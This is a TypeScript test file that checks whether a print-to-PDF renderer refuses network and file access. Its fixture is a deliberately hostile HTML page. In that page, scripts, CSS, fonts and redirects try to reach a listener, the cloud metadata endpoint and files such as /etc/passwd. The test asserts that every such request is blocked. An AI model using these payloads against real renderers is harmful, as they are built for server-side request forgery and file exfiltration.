/**
 * The renderer’s own fence, without the sanitiser in front of it: a print HTML full of scripts,
 * styles and elements that reach for the network and the file system is paginated as is. Only the
 * print folder may load; the listener sees nothing, and no outside file ends up in the PDF.
 */
import {execFileSync} from 'node:child_process'
import {mkdirSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {pathToFileURL} from 'node:url'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {paginate, type PaginateResult} from '../../scripts/print/paginate.ts'
import {listen, type Listener} from './listener.ts'
import {makeMarker} from '../fixtures/hostile/hostile.ts'

function hostilePage(listener: string, markerFile: string, marker: string): string {
  const marked = pathToFileURL(markerFile).href
  const targets = [`${listener}/a`, 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd', 'file:///etc/hostname', marked]
  const elements = targets
    .map(
      (t, i) => `
  <p>Target ${i}: <img src="${t}" alt=""> <img srcset="${t} 2x" alt=""></p>
  <div style="background:url(${t})">styled</div>
  <iframe src="${t}"></iframe><object data="${t}"></object><embed src="${t}">
  <link rel="preload" as="fetch" href="${t}"><link rel="prefetch" href="${t}">
  <svg width="10" height="10"><image href="${t}" width="10" height="10"/></svg>
  <video src="${t}" poster="${t}"></video><audio src="${t}"></audio>`
    )
    .join('\n')
  const scripts = targets
    .map(
      (t) => `
  try { fetch(${JSON.stringify(t)}).then((r) => r.text()).then((t) => document.body.append(t)).catch(() => {}) } catch {}
  try { const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(t)}); x.onload = () => document.body.append(x.responseText); x.send() } catch {}
  try { navigator.sendBeacon(${JSON.stringify(t)}, 'x') } catch {}
  try { new EventSource(${JSON.stringify(t)}) } catch {}
  try { new Image().src = ${JSON.stringify(t)} } catch {}
  try { import(${JSON.stringify(t)}).catch(() => {}) } catch {}`
    )
    .join('\n')
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Hostile</title>
<link rel="dns-prefetch" href="${listener}"><link rel="preconnect" href="${listener}">
<style>body { background: url("${listener}/bg.png") }
@page { size: 6in 9in; }</style>
<script>
  try { new WebSocket(${JSON.stringify(listener.replace('http', 'ws') + '/ws')}) } catch {}
  try { new Worker(${JSON.stringify(listener + '/worker.js')}) } catch {}
  ${scripts}
</script>
</head><body>
<section class="part text" id="t-one"><h1>A hostile page</h1>
<p>Nothing from outside this folder may load. ${marker.slice(0, 0)}</p>
${elements}
</section>
</body></html>
`
}

describe('the renderer loads only the print folder', () => {
  let listener: Listener
  let dir: string
  let result: PaginateResult
  let text: string
  const {markerFile, marker} = makeMarker()

  beforeAll(async () => {
    listener = await listen()
    dir = mkdtempSync(path.join(tmpdir(), 'reader-hostile-print-'))
    const printDir = path.join(dir, 'print')
    mkdirSync(printDir)
    const htmlPath = path.join(printDir, 'index.html')
    writeFileSync(htmlPath, hostilePage(listener.url, markerFile, marker))
    result = await paginate({
      htmlPath,
      printDir,
      ids: ['t-one'],
      decide: (rendered) => ({pages: rendered.pages.map(() => ({folioHead: '', folioFoot: '', runningHead: ''})), pageNumbers: {}, pageLines: {}, indexRefs: {}}),
      timeoutMs: 120_000
    })
    const pdf = path.join(dir, 'out.pdf')
    writeFileSync(pdf, result.pdf)
    text = execFileSync('pdftotext', [pdf, '-'], {encoding: 'utf8'})
  }, 180_000)

  afterAll(async () => {
    await listener?.close()
    if (dir) rmSync(dir, {recursive: true, force: true})
    rmSync(path.dirname(markerFile), {recursive: true, force: true})
  })

  it('renders the page', () => {
    expect(text).toContain('A hostile page')
  })

  it('makes no connection to the listener (HTTP, WebSocket, beacon, worker, fonts, CSS)', () => {
    expect(listener.requests).toEqual([])
    expect(listener.connections()).toBe(0)
  })

  it('refuses the network and every file outside the print folder', () => {
    const blocked = result.blocked
    expect(blocked.some((url) => url.startsWith(listener.url))).toBe(true)
    expect(blocked).toContain('file:///etc/passwd')
    expect(blocked).toContain('file:///etc/hostname')
    expect(blocked).toContain(pathToFileURL(markerFile).href)
  })

  // Pages that navigate away, link a stylesheet Paged.js cannot fetch or use a font that cannot load
  // fail the render: cleanly, and still without a connection.
  const failing: Record<string, (listener: string, marked: string) => string> = {
    'a meta refresh': (l) => `<meta http-equiv="refresh" content="0;url=${l}/refresh">`,
    'a script setting location': (l) => `<script>location.href = ${JSON.stringify(l + '/location')}</script>`,
    'a stylesheet on the network': (l) => `<link rel="stylesheet" href="${l}/style.css">`,
    'a stylesheet outside the folder': (_, m) => `<link rel="stylesheet" href="${m}">`,
    'an @import from the network': (l) => `<style>@import url("${l}/import.css");</style>`,
    'an @import outside the folder': (_, m) => `<style>@import url("${m}");</style>`,
    'a font on the network': (l) => `<style>@font-face { font-family: Leak; src: url("${l}/font.woff2"); } body { font-family: Leak, serif }</style>`,
    'a font outside the folder': (_, m) => `<style>@font-face { font-family: Leak; src: url("${m}"); } body { font-family: Leak, serif }</style>`
  }
  for (const [name, make] of Object.entries(failing)) {
    it(`fails cleanly or refuses on ${name}, without a connection`, async () => {
      const before = listener.connections()
      const printDir = mkdtempSync(path.join(dir, 'print-'))
      const htmlPath = path.join(printDir, 'index.html')
      writeFileSync(htmlPath, `<!doctype html><html><head>${make(listener.url, pathToFileURL(markerFile).href)}</head><body><p>Away</p></body></html>`)
      const outcome = await paginate({htmlPath, printDir, ids: [], decide: () => ({pages: [], pageNumbers: {}, pageLines: {}, indexRefs: {}}), timeoutMs: 60_000}).then(
        (r) => r,
        (error: Error) => error
      )
      if (outcome instanceof Error) expect(String(outcome)).toMatch(/\[(render-crash|font-load)\]$/)
      else expect(outcome.blocked.length).toBeGreaterThan(0)
      expect(listener.connections()).toBe(before)
    }, 90_000)
  }

  it('puts nothing from outside into the PDF', () => {
    expect(text).not.toContain(marker)
    expect(text).not.toContain('LISTENER-WAS-REACHED')
    expect(text).not.toMatch(/root:.:0:0/)
  })
})
